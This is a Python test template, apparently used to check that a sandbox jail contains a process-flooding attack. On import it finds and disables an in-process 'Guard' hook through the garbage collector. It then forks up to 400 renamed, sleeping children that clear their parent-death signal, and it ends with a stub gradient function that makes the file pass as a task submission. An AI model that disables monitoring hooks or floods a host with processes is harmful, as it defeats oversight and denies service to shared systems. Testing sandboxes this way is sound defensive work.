"""Spend processes without bound: fork until refused, every child sleeping.

A template: the tests put a fresh process name in place of ``NAME``. On import,
with the guard disarmed, the file forks up to 400 children; each names itself
``NAME``, clears its parent-death signal and sleeps (for at most a minute).
It counts how many it got.

Held when: the jail's process limit refuses most of them (the file prints
``ATTACK-SUCCEEDED`` past 200), and none is left on the host a few seconds
after the command ends.
"""

import ctypes
import gc
import os
import time

import numpy as np

NAME = "@@NAME@@"
PR_SET_PDEATHSIG, PR_SET_NAME = 1, 15


def _disarm():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Guard" and "armed" in getattr(obj, "__dict__", {}):
            obj.armed = False
            type(obj).__call__ = lambda self, event, args: None


_disarm()
libc = ctypes.CDLL(None)
STARTED = 0
for _ in range(400):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
        libc.prctl(PR_SET_NAME, NAME.encode(), 0, 0, 0)
        os.closerange(3, 256)
        time.sleep(60)
        os._exit(0)
    STARTED += 1
if STARTED > 200:
    print(f"ATTACK-SUCCEEDED: {STARTED} processes started")
else:
    print(f"attack: only {STARTED} processes started")


def loss_and_grad(W, X, T, layer_sizes, lam):
    return 0.0, np.zeros_like(W)
